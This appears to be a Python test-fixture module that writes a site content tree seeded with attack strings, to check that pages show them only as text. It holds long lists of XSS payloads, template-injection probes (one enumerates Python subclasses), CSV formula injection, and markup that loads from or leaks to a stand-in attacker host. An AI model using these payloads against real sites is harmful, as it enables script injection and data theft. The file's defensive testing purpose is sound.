"""The hostile-content corpus: attack strings, and a content tree that carries them in every field.

Every free-text field of the site, its suppliers, offers and organisations holds attack strings;
each field is rotated through every text vector across the offers, so each (field, vector) pair is
built once. Markdown descriptions carry the markup vectors, URL fields carry https URLs that try to
break out of their attribute, and one supplier, offer and organisation hold every field at exactly
its maximum length. `write_hostile_tree` returns where each string went and on which page a visitor
must see it as text.
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import yaml

# --- the vectors ----------------------------------------------------------------------------

# Plain-text vectors: each must appear on its page exactly as written, as text.
TEXT_VECTORS: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "svg-onload": "<svg/onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "mxss-noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "broken-tag": '<img """><script>alert(1)</script>">',
    "split-tag": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-breakout": "</script><script>alert(1)</script>",
    "title-breakout": "</title><script>alert(1)</script>",
    "textarea-breakout": "</textarea></style><img src=x onerror=alert(1)>",
    "attr-double": '" onmouseover="alert(1)" x="',
    "attr-single": "' onfocus='alert(1)' autofocus x='",
    "attr-unquoted": "x onmouseover=alert(1) y",
    "css-expression": '<div style="width:expression(alert(1))">css</div>',
    "css-url": "<p style=\"background:url('javascript:alert(1)')\">css</p>",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "js-mixed-case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "js-entities": '<a href="&#106;&#97;vascript:alert(1)">x</a>',
    "js-tab": '<a href="jav\tascript:alert(1)">x</a>',
    "js-control-entity": '<a href="&#x01;&#x0e;javascript:alert(1)">x</a>',
    "data-url": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "form-action": '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button></form>',
    "base-href": '<base href="https://evil.example/">',
    "comment-cdata": "<!--<script>alert(1)//--><![CDATA[<script>alert(1)</script>]]>",
    "jinja-expression": "{{ 7*7 }}",
    "jinja-raw": "{% raw %}{{ 7*7 }}{% endraw %}",
    "jinja-object": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "other-templates": "${7*7} #{7*7} <%= 7*7 %>",
    "angular": "{{constructor.constructor('alert(1)')()}}",
    "csv-equals": '=HYPERLINK("https://evil.example","click")',
    "csv-plus": "+1+1",
    "csv-minus": "-2+3",
    "csv-at": "@SUM(1+1)",
    "csv-tab": "\t=1+1",
    "csv-cr": "\r=1+1",
    "csv-fullwidth": "＝1+1",
    "bidi-override": "Invoice \u202egnp.exe",
    "zero-width": "Free\u200b\u200c\u200d\u2060\ufeff offer",
    "long-word": ("Pneumonoultramicroscopicsilicovolcanoconiosis" * 3)[:120],
    "markdown-in-text": "[click](javascript:alert(1))",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp;",
    "percent-encoded": "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "js-string": "';alert(1)//\\\";alert(1)//",
    "line-separators": "line\u2028separator\u2029paragraph",
    "format-strings": "%s%s%n {0.__class__} {}",
    "json-words": "None null undefined NaN true",
    "rtl-and-astral": "مرحبا بالعالم 🙂 𝕏",
}

# Markdown vectors for descriptions, on top of every text vector written as raw HTML.
MARKDOWN_VECTORS: dict[str, str] = {
    "md-js-link": "[a](javascript:alert(1))",
    "md-js-case": "[a](JaVaScRiPt:alert(1))",
    "md-js-entity": "[a](&#106;avascript:alert(1))",
    "md-js-colon-entity": "[a](javascript&#58;alert(1))",
    "md-js-leading-space": "[a]( javascript:alert(1))",
    "md-js-tab": "[a](java\tscript:alert(1))",
    "md-js-angle": "[a](<javascript:alert(1)>)",
    "md-data": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md-vbscript": "[a](vbscript:msgbox(1))",
    "md-image-js": "![x](javascript:alert(1))",
    "md-image-remote": "![pixel](https://evil.example/pixel.png)",
    "md-reference": "[a][1]\n\n[1]: javascript:alert(1)",
    "md-reference-title": '[b][2]\n\n[2]: https://ok.example/ "a" onmouseover="alert(1)"',
    "md-autolink-js": "<javascript:alert(1)>",
    "md-autolink-data": "<data:text/html,<script>alert(1)</script>>",
    "md-autolink-mail": "<mailto:x@evil.example?body=<script>alert(1)</script>>",
    "md-title-breakout": '[a](https://ok.example/ "x\\" onmouseover=\\"alert(1)")',
    "md-relative": "[up](../../../offers.json) [root](/etc/passwd) [frag](#nowhere) [proto](//evil.example/)",
    "md-html-onclick": '<a href="https://ok.example/" onclick="alert(1)">ok</a>',
    "md-code": "`<script>alert(1)</script>` and\n\n    <img src=x onerror=alert(1)>",
    "md-emphasis": "**<img src=x onerror=alert(1)>** _[x](javascript:alert(1))_",
    "md-table": "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "md-heading": "# <svg onload=alert(1)>\n## x",
    "md-html-block": "<div>\n<script>alert(1)</script>\n</div>",
    "md-style-block": "<style>body{background:url(javascript:alert(1))}</style>",
    "md-svg-use": '<svg><use href="data:image/svg+xml,<svg id=x><image href=1 onerror=alert(1) /></svg>#x"/></svg>',
    "md-math-href": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "md-object": '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="javascript:alert(1)">',
    "md-link-tag": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "md-meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "md-base": '<base href="javascript:alert(1)//">',
    "md-svg-animate": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
    "md-details": "<details open ontoggle=alert(1)>",
    "md-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "md-xlink": '<a xlink:href="javascript:alert(1)">x</a>',
    "md-dangling": '<img src="https://evil.example/?',
    "md-unclosed-comment": "<!-- ",
    "md-nested-lists": "* " * 40 + "deep",
    "md-nested-quotes": "> " * 40 + "deep",
    "md-jinja": "{{ 7*7 }} {% raw %}x{% endraw %} {# comment #}",
    "md-pre-newline": "<pre>\n\nkept</pre>",
    "md-nested-anchors": '<a href="https://a.example/"><form><a href="https://b.example/">x</a></form></a>',
    "md-p-in-p": "<p><object><p>inner</p></object></p>",
}

# What a visitor must read where a Markdown vector was written (text, not markup).
MARKDOWN_VISIBLE: dict[str, str] = {
    "md-jinja": "{{ 7*7 }} {% raw %}x{% endraw %} {# comment #}",
    "md-code": "<script>alert(1)</script>",
}

# https URLs that pass validation but try to break out of the attribute they are written into.
URL_VECTORS: list[str] = [
    'https://evil.example/"onmouseover="alert(1)',
    "https://evil.example/'><script>alert(1)</script>",
    "https://evil.example/?q={{7*7}}",
    "https://evil.example/#javascript:alert(1)",
    "https://javascript:alert(1)@evil.example/",
    "https://evil.example/\u202efdp.exe",
    "https://evil.example/%0d%0aSet-Cookie:x=1",
    "https://evil.example/</title><script>alert(1)</script>",
]

# Addresses that pass the email rule but carry a scheme, a formula or a template.
EMAIL_VECTORS: list[str] = [
    "javascript:alert(1)@evil.example",
    "=1+1@evil.example",
    "+1@evil.example",
    "{{7*7}}@evil.example",
    "a&b=c%0aBcc:x@evil.example",
]

PHONE_VECTORS: list[str] = ["+1+1+1", "-1 (0) 1-1"]

# What `check` must refuse in every URL field.
REFUSED_URLS: list[str] = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "http://example.org/",
    "//evil.example/",
    "file:///etc/passwd",
    "https:javascript:alert(1)",
    "mailto:x@example.org",
]

# Every URL field, as (content file kind, field path).
URL_FIELDS: list[tuple[str, tuple[str | int, ...]]] = [
    ("site", ("base_url",)),
    ("supplier", ("website",)),
    ("offer", ("contact", "url")),
    ("organisation", ("website",)),
]

# Characters that must never reach a page, however they were written (YAML escapes included).
REFUSED_CHARACTERS: list[str] = ["\x00", "\x07", "\x1b", "\x7f", "\x85", "\x9b", "\ufdd0", "\U0001fffe"]

# --- writing the tree ----------------------------------------------------------------------


@dataclass(frozen=True)
class Placement:
    """One attack string written into one field, and the page (if any) that shows it as text."""

    vector: str
    field: str  # "suppliers/hostile-0/offers/vector-03.yaml: prices[1].notes"
    text: str
    page: str | None  # page path relative to the site root ("offers/a/b/"), None when not shown as text


@dataclass
class Corpus:
    root: Path
    placements: list[Placement] = field(default_factory=list)
    markdown: list[Placement] = field(default_factory=list)
    offer_pages: list[str] = field(default_factory=list)

    def place(self, vector: str, where: str, text: str, page: str | None) -> str:
        self.placements.append(Placement(vector, where, text, page))
        return text

    @property
    def vector_names(self) -> set[str]:
        return {p.vector for p in self.placements + self.markdown}


_BaseDumper: Any = getattr(yaml, "CSafeDumper", yaml.SafeDumper)  # libyaml's emitter is 5x faster


class _Dumper(_BaseDumper):
    """Every string double-quoted (YAML escapes for control characters), never an alias."""

    def ignore_aliases(self, data: Any) -> bool:
        return True


def _quoted(dumper: Any, text: str) -> yaml.ScalarNode:
    return dumper.represent_scalar("tag:yaml.org,2002:str", text, style='"')


_Dumper.add_representer(str, _quoted)


def to_yaml(data: dict[str, Any]) -> str:
    return yaml.dump(data, Dumper=_Dumper, allow_unicode=True, sort_keys=False, width=10**6)


TEXTS = list(TEXT_VECTORS.items())
ALL_MARKUP = list(MARKDOWN_VECTORS.items()) + TEXTS
SUPPLIERS = 4
ORGANISATIONS = 4
CATEGORIES = 6
AREAS = 6
AUDIENCES = 4
PER_DESCRIPTION = 8


class _Writer:
    def __init__(self, root: Path) -> None:
        self.corpus = Corpus(root)
        self.turn = 0

    def text(self, where: str, limit: int, page: str | None, offset: int = 0) -> str:
        """The next text vector (cut to the field's limit), recorded with the page that shows it."""
        name, text = TEXTS[(self.turn + offset) % len(TEXTS)]
        return self.corpus.place(name, where, text[:limit], page)

    def description(self, where: str, index: int, page: str) -> str:
        chosen = [ALL_MARKUP[(index * PER_DESCRIPTION + k) % len(ALL_MARKUP)] for k in range(PER_DESCRIPTION)]
        # Vectors a visitor must read go first: an unclosed comment or <style> rightly swallows the rest.
        chosen.sort(key=lambda item: item[0] not in MARKDOWN_VISIBLE)
        for name, text in chosen:
            visible = MARKDOWN_VISIBLE.get(name)
            self.corpus.markdown.append(Placement(name, where, visible or text, page if visible else None))
        return "\n\n".join(text for _, text in chosen)

    def write(self, relative: str, data: dict[str, Any]) -> None:
        path = self.corpus.root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(to_yaml(data), encoding="utf-8")


def _site(writer: _Writer) -> dict[str, Any]:
    where = "site.yaml"
    categories = []
    for index in range(CATEGORIES):
        writer.turn = index
        page = f"categories/c{index}/"
        categories.append(
            {
                "id": f"c{index}",
                "label": writer.text(f"{where}: categories[{index}].label", 80, page),
                "description": writer.text(f"{where}: categories[{index}].description", 400, page, 1),
            }
        )
    areas = []
    for index in range(AREAS):
        writer.turn = index + CATEGORIES
        area: dict[str, Any] = {"id": f"a{index}"}
        area["label"] = writer.text(f"{where}: areas[{index}].label", 80, f"areas/a{index}/")
        if index % 2:
            area["parent"] = f"a{index - 1}"
        areas.append(area)
    audiences = []
    for index in range(AUDIENCES):
        writer.turn = index + CATEGORIES + AREAS
        # Shown as given on offer pages (the audience page lowercases it).
        label = writer.text(f"{where}: audiences[{index}].label", 80, None)
        audiences.append({"id": f"u{index}", "label": label})
    writer.turn = CATEGORIES + AREAS + AUDIENCES
    return {
        "title": writer.text(f"{where}: title", 120, ""),
        "tagline": writer.text(f"{where}: tagline", 200, "", 1),
        "base_url": 'https://evil.example/menu/?x="><script>alert(1)</script>',
        "contact_email": EMAIL_VECTORS[0],
        "categories": categories,
        "areas": areas,
        "audiences": audiences,
        "repository": "evil/menu",
        "coordinators": ["coord-one"],
    }


def _supplier(writer: _Writer, index: int) -> dict[str, Any]:
    writer.turn = index * 5
    where = f"suppliers/hostile-{index}/supplier.yaml"
    page = f"suppliers/hostile-{index}/"
    website = URL_VECTORS[index % len(URL_VECTORS)]
    email = EMAIL_VECTORS[index % len(EMAIL_VECTORS)]
    writer.corpus.place("url", f"{where}: website", website, page)
    writer.corpus.place("email", f"{where}: email", email, page)
    return {
        "name": writer.text(f"{where}: name", 120, page),
        "summary": writer.text(f"{where}: summary", 200, page, 1),
        "description": writer.description(f"{where}: description", 1000 + index, page),
        "legal_form": "cic",
        "registration_number": writer.text(f"{where}: registration_number", 40, page, 2),
        "website": website,
        "email": email,
        "phone": PHONE_VECTORS[index % len(PHONE_VECTORS)],
        "locality": writer.text(f"{where}: locality", 120, page, 3),
        "areas": [f"a{index % AREAS}"],
        "maintainers": ["alice"],
    }


OFFER_TEXT_FIELDS: list[tuple[tuple[str | int, ...], int, bool]] = [
    # (path, max length, shown as text on the offer page)
    (("title",), 120, True),
    (("summary",), 200, True),
    (("tags", 0), 40, True),
    (("tags", 1), 40, True),
    (("prices", 0, "label"), 80, True),
    (("prices", 0, "notes"), 300, True),
    (("prices", 1, "label"), 80, True),
    (("prices", 1, "notes"), 300, True),
    (("duration",), 200, True),
    (("languages", 0), 60, True),
    (("languages", 1), 60, True),
    (("accessibility",), 1000, True),
    (("safeguarding",), 1000, True),
    (("outcomes", 0), 200, True),
    (("outcomes", 1), 200, True),
    (("contact", "name"), 120, False),  # only in the enquiry email's text
]


def _label(path: tuple[str | int, ...]) -> str:
    label = ""
    for part in path:
        label += f"[{part}]" if isinstance(part, int) else (f".{part}" if label else part)
    return label


def _set(data: dict[str, Any], path: tuple[str | int, ...], value: Any) -> None:
    node: Any = data
    for part, following in itertools.pairwise(path):
        if isinstance(part, int):
            while len(node) <= part:
                node.append({} if isinstance(following, str) else [])
        elif part not in node:
            node[part] = [] if isinstance(following, int) else {}
        node = node[part]
    last = path[-1]
    if isinstance(last, int):
        while len(node) <= last:
            node.append(None)
    node[last] = value


def _offer(writer: _Writer, index: int, supplier: int, page: str, where: str) -> dict[str, Any]:
    data: dict[str, Any] = {
        "description": writer.description(f"{where}: description", index, page),
        "category": f"c{index % CATEGORIES}",
        "prices": [{"amount": index, "unit": "per_session"}, {"amount": 1.5, "unit": "per_person"}],
        "delivery": ["in_person", "online"] if index % 3 else ["online"],
        "audiences": [f"u{index % AUDIENCES}"],
        "contact": {
            "email": EMAIL_VECTORS[index % len(EMAIL_VECTORS)],
            "url": URL_VECTORS[index % len(URL_VECTORS)],
            "phone": PHONE_VECTORS[index % len(PHONE_VECTORS)],
        },
        "group_size": {"min": 1, "max": 12},
        "lead_time_days": 0,
    }
    if index % 3:
        data["areas"] = [f"a{index % AREAS}", f"a{(index + 1) % AREAS}"]
    writer.turn = index
    for offset, (path, limit, shown) in enumerate(OFFER_TEXT_FIELDS):
        _set(data, path, writer.text(f"{where}: {_label(path)}", limit, page if shown else None, offset))
    writer.corpus.place("url", f"{where}: contact.url", data["contact"]["url"], None)
    ordered = {"title": data.pop("title"), "summary": data.pop("summary"), **data}
    return ordered


def _organisation(writer: _Writer, index: int, offer_keys: list[str]) -> dict[str, Any]:
    writer.turn = index * 7 + 3
    where = f"organisations/org-{index}.yaml"
    page = f"organisations/org-{index}/"
    feedback = []
    for k in range(3):
        key = offer_keys[(index * 3 + k) % len(offer_keys)]
        offer_page = f"offers/{key}/"
        comment = writer.text(f"{where}: feedback[{k}].comment", 600, offer_page, 2 + k)
        feedback.append({"offer": key, "date": "2026-10-01", "comment": comment})
    website = URL_VECTORS[(index + 3) % len(URL_VECTORS)]
    writer.corpus.place("url", f"{where}: website", website, page)
    return {
        "name": writer.text(f"{where}: name", 120, page),
        "summary": writer.text(f"{where}: summary", 200, page, 1),
        "description": writer.description(f"{where}: description", 2000 + index, page),
        "area": f"a{index % AREAS}",
        "audiences": [f"u{index % AUDIENCES}"],
        "interests": [f"c{index % CATEGORIES}"],
        "budget": {"amount": 1000 + index},
        "website": website,
        "email": EMAIL_VECTORS[(index + 1) % len(EMAIL_VECTORS)],
        "feedback": feedback,
    }


# --- every field at exactly its maximum length -------------------------------------------------


def at_length(pattern: str, length: int) -> str:
    """pattern repeated and cut to exactly length characters."""
    return (pattern * (length // len(pattern) + 1))[:length]


LIMIT_PATTERN = "<script>"  # no spaces: a maximum-length title is also one very long word


def _limit_offer() -> dict[str, Any]:
    text = {path: at_length(LIMIT_PATTERN, limit) for path, limit, _ in OFFER_TEXT_FIELDS}
    data: dict[str, Any] = {
        "description": at_length("=1+1 {{ 7*7 }} **x** ", 20000),
        "category": "c0",
        "prices": [{"amount": 1000000, "unit": "fixed"}, {"amount": 0, "unit": "per_person"}],
        "delivery": ["online"],
        "contact": {"url": "https://evil.example/" + "x" * (2000 - len("https://evil.example/"))},
    }
    for path, value in text.items():
        _set(data, path, value)
    return {"title": data.pop("title"), "summary": data.pop("summary"), **data}


def _limit_supplier() -> dict[str, Any]:
    return {
        "name": at_length(LIMIT_PATTERN, 120),
        "summary": at_length(LIMIT_PATTERN, 200),
        "description": at_length("{{ 7*7 }} **x** @SUM(1) ", 20000),
        "legal_form": "other",
        "registration_number": at_length(LIMIT_PATTERN, 40),
        "email": "limits@example.org",
        "locality": at_length(LIMIT_PATTERN, 120),
        "maintainers": ["a" * 39],
    }


def _limit_organisation() -> dict[str, Any]:
    return {
        "name": at_length(LIMIT_PATTERN, 120),
        "summary": at_length(LIMIT_PATTERN, 200),
        "description": at_length("@SUM(1) ", 20000),
        "area": "a0",
        "feedback": [
            {"offer": "limits/at-the-limits", "date": "2026-10-01", "comment": at_length("=1+1", 600)}
        ],
    }


LIMIT_PAGES = {
    "offers/limits/at-the-limits/": [at_length(LIMIT_PATTERN, n) for n in (120, 200, 40, 80, 300, 60, 1000)],
    "suppliers/limits/": [at_length(LIMIT_PATTERN, n) for n in (120, 200, 40)],
    "organisations/at-the-limits/": [at_length(LIMIT_PATTERN, n) for n in (120, 200)],
}


def write_hostile_tree(root: Path) -> Corpus:
    """Write the hostile content tree into root (which must not exist yet)."""
    writer = _Writer(root)
    writer.write("site.yaml", _site(writer))
    offer_keys = []
    for index in range(len(TEXTS)):
        supplier = index % SUPPLIERS
        key = f"hostile-{supplier}/vector-{index:02d}"
        page = f"offers/{key}/"
        where = f"suppliers/hostile-{supplier}/offers/vector-{index:02d}.yaml"
        writer.write(where, _offer(writer, index, supplier, page, where))
        offer_keys.append(key)
        writer.corpus.offer_pages.append(page)
    for supplier in range(SUPPLIERS):
        writer.write(f"suppliers/hostile-{supplier}/supplier.yaml", _supplier(writer, supplier))
    for index in range(ORGANISATIONS):
        writer.write(f"organisations/org-{index}.yaml", _organisation(writer, index, offer_keys))
    writer.write("suppliers/limits/supplier.yaml", _limit_supplier())
    writer.write("suppliers/limits/offers/at-the-limits.yaml", _limit_offer())
    writer.write("organisations/at-the-limits.yaml", _limit_organisation())
    writer.corpus.offer_pages.append("offers/limits/at-the-limits/")
    return writer.corpus
